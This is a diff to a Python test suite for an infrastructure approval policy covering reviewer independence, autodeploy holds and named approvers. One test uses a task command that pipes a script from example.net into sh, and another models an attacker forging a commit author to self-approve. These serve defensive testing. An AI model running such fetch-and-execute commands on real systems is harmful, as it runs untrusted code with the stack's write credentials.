@@ -243,7 +243,8 @@ def test_state_surgery_task_on_the_management_stack_waits_for_another_person(
     assert approval_policy(reviewed_by("bob")) == APPROVED
 
 
-def test_task_on_an_experiment_runs_without_review(approval_policy: Evaluate) -> None:
+def test_task_on_an_experiment_waits_for_another_person(approval_policy: Evaluate) -> None:
+    # A task runs its command with the stack's write credentials, and no plan shows it.
     task = run(
         HTTP_BASELINE_AKS,
         run_id="01JGZ5A9K0L1M2N3P4Q5R6S7T8",
@@ -252,10 +253,86 @@ def test_task_on_an_experiment_runs_without_review(approval_policy: Evaluate) ->
         commit=MERGE,
         triggered_by="alice",
         creator=ALICE,
-        command="tofu output -json",
+        command="curl -s https://example.net/x.sh | sh",
     )
 
-    assert approval_policy(approval_input(HTTP_BASELINE_AKS, task)) == APPROVED
+    def reviewed_by(login: str) -> JsonDict:
+        return approval_input(
+            HTTP_BASELINE_AKS, task, approvals=[review(login, login.title(), state="QUEUED")]
+        )
+
+    assert approval_policy(approval_input(HTTP_BASELINE_AKS, task)) == HELD
+    assert approval_policy(reviewed_by("alice")) == HELD
+    assert approval_policy(reviewed_by("bob")) == APPROVED
+
+
+def test_a_protected_stack_with_autodeploy_on_is_held_before_it_plans(
+    approval_policy: Evaluate,
+) -> None:
+    # Someone turned autodeploy on for the foundation by hand: its applies would never
+    # reach a state the approval policy is asked about, so the queued run waits.
+    autodeployed = LabStack(AWS_FOUNDATION.id, AWS_FOUNDATION.labels, autodeploy=True)
+    queued = run(
+        autodeployed,
+        run_id="01JGZ5B0L1M2N3P4Q5R6S7T8U9",
+        run_type="TRACKED",
+        state="QUEUED",
+        commit=MERGE,
+    )
+
+    def reviewed_by(*logins: str) -> JsonDict:
+        return approval_input(
+            autodeployed,
+            queued,
+            approvals=[review(login, login.title(), state="QUEUED") for login in logins],
+        )
+
+    assert approval_policy(approval_input(autodeployed, queued)) == HELD
+    assert approval_policy(reviewed_by("bob")) == HELD  # its plan may delete: two people
+    assert approval_policy(reviewed_by("bob", "alice")) == HELD  # alice merged it
+    assert approval_policy(reviewed_by("bob", "carol")) == APPROVED
+    # The same run without autodeploy starts, and is reviewed once it has planned.
+    assert approval_policy(approval_input(AWS_FOUNDATION, queued)) == APPROVED
+
+
+@pytest.fixture(scope="module")
+def named_approvers_policy(policies: Mapping[str, PolicyFile]) -> Evaluate:
+    """The approval policy as spacelift-root uploads it when lab.yaml names approvers:
+    bob and carol, carol committing as carol-gh."""
+    policy = policies["approval"]
+    body = policy.uploaded_body(
+        approvers=(
+            lab_policies.Approver(login="bob@example.com"),
+            lab_policies.Approver(login="carol@example.com", vcs_login="carol-gh"),
+        )
+    )
+    engine = Engine({policy.path.name: body})
+    return lambda document: decide(engine, policy, document)
+
+
+def test_a_forged_author_does_not_make_a_stranger_an_independent_approver(
+    approval_policy: Evaluate, named_approvers_policy: Evaluate
+) -> None:
+    # mallory pushes a commit whose author field says carol-gh, then approves its run.
+    forged = run(
+        AZURE_FOUNDATION,
+        run_id="01JGZ5C1M2N3P4Q5R6S7T8U9V0",
+        run_type="TRACKED",
+        state="UNCONFIRMED",
+        commit=commit("9e8d7c6b5a49382716051f2e3d4c5b6a79881726", "carol-gh", "Tidy"),
+    )
+
+    def reviewed_by(login: str) -> JsonDict:
+        return approval_input(
+            AZURE_FOUNDATION, forged, approvals=[review(login, login, state="UNCONFIRMED")]
+        )
+
+    # Without a list, any reviewer but the run's initiators counts: mallory does.
+    assert approval_policy(reviewed_by("mallory@example.com")) == APPROVED
+    # With one, only the named people count, and carol-gh is carol: she is not independent.
+    assert named_approvers_policy(reviewed_by("mallory@example.com")) == HELD
+    assert named_approvers_policy(reviewed_by("carol@example.com")) == HELD
+    assert named_approvers_policy(reviewed_by("BOB@example.com")) == APPROVED
 
 
 def test_foundation_teardown_waits_for_another_person_before_it_starts(
@@ -517,3 +594,22 @@ def test_with_self_approval_what_ran_freely_still_runs_and_a_rejection_still_rej
 
     assert self_approving_policy(approved_by(HTTP_BASELINE_AKS, growing)) == APPROVED
     assert self_approving_policy(rejected) == REJECTED
+
+
+def test_the_uploaded_body_names_the_approvers_only_when_lab_yaml_does(
+    policies: Mapping[str, PolicyFile],
+) -> None:
+    policy = policies["approval"]
+    approvers = (
+        lab_policies.Approver(login="bob@example.com"),
+        lab_policies.Approver(login="carol@example.com", vcs_login="carol-gh"),
+    )
+
+    assert policy.uploaded_body() == policy.body
+    assert policy.uploaded_body(approvers=approvers) == policy.body + (
+        "\n# Set by spacelift-root from lab.yaml: spacelift.approvers\n"
+        'allowed_approvers := ["bob@example.com", "carol@example.com"]\n\n'
+        'login_aliases := {"carol-gh": "carol@example.com"}\n'
+    )
+    # A policy without the switch is uploaded as it is.
+    assert policies["plan"].uploaded_body(approvers=approvers) == policies["plan"].body
